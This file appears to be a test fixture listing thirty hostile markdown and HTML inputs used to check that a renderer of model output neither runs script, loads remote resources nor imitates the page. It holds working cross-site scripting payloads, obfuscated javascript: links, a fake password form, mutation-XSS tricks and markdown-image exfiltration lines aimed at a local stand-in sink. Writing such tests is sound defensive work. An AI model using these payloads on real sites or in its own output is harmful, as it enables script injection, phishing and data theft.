// Thirty things a hostile model, or a document it repeats, may write at our reader. None may run, load, navigate or pose
// as the page. SINK is an address that nobody may ask.
export const SINK = "http://127.0.0.1:9/sink";

const run = "window.__ran=1";

export const hostile = [
  ["script tag", `<script>${run}</script>`],
  ["script from afar", `<script src="${SINK}/x.js"></script>`],
  ["image with a handler", `<img src=x onerror="${run}">`],
  ["markdown image", `![secret](${SINK}/p.png?d=secret)`],
  ["markdown image by reference", `![a][b]\n\n[b]: ${SINK}/p.png`],
  ["svg with onload", `<svg onload="${run}"><script>${run}</script></svg>`],
  ["iframe", `<iframe src="${SINK}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
  ["javascript link", `[click](javascript:${run})`],
  ["javascript link, spelt oddly", `[click](JaVa\tScRiPt:${run}) [click](&#106;avascript:${run}) [c](java%0Ascript:${run})`],
  ["javascript autolink", `<javascript:${run}> javascript:${run}`],
  ["data link", `[click](data:text/html,<script>${run}</script>)`],
  ["vbscript, file and blob links", "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:http://x/y)"],
  ["link with a handler in its title", `[a](https://x.org "\\" onmouseover=\\"${run}\\"")`],
  ["link that breaks out of its address", `[a](https://x.org"onclick="${run}) <a href="https://x.org" onclick="${run}">b</a>`],
  ["style that loads", `<style>body{background:url(${SINK}/bg)}</style><div style="background:url(${SINK})">x</div>`],
  ["stylesheet", `<link rel="stylesheet" href="${SINK}/x.css"><link rel=prefetch href="${SINK}"><link rel=dns-prefetch href="${SINK}">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=${SINK}">`],
  ["base", `<base href="${SINK}/"><a href="x">x</a>`],
  ["form that asks for a password", `<form action="${SINK}"><input name=p type=password autofocus onfocus="${run}"><button>Log in</button></form>`],
  ["media", `<video src="${SINK}/v" autoplay onerror="${run}"></video><audio src="${SINK}/a"></audio><object data="${SINK}"></object><embed src="${SINK}">`],
  ["details that opens by itself", `<details open ontoggle="${run}"><summary>x</summary></details>`],
  ["math and namespaces", `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`],
  ["template and noscript", `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><script>${run}</script></template>`],
  ["comment and CDATA", `<!--><img src=x onerror=${run}>--><![CDATA[<script>${run}</script>]]>`],
  ["code fence that ends in a tag", "```html\n</code></pre><script>" + run + "</script>\n```\n\n~~~\"><img src=x onerror=" + run + ">\nx\n~~~"],
  ["table of tags", `| <img src=x onerror=${run}> | [a](javascript:${run}) |\n|---|---|\n| ![x](${SINK}/t.png) | <script>${run}</script> |`],
  ["heading and list of tags", `# <img src=x onerror=${run}>\n\n- <script>${run}</script>\n  1. ![x](${SINK}/l)\n> <svg onload=${run}>`],
  ["nested without end", "> ".repeat(5000) + "- ".repeat(5000) + "[".repeat(5000) + "*".repeat(5000)],
  ["characters that reorder or hide", `\u202Egnp.tcafe\u202C \u0000\uFFFE\u200B <scr\u0000ipt>${run}</scr\u0000ipt> \uFF1Cscript\uFF1E${run}`],
  ["prototype and template tricks", `__proto__ constructor {{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> [x](https://x.org){onclick=${run}}`],
];
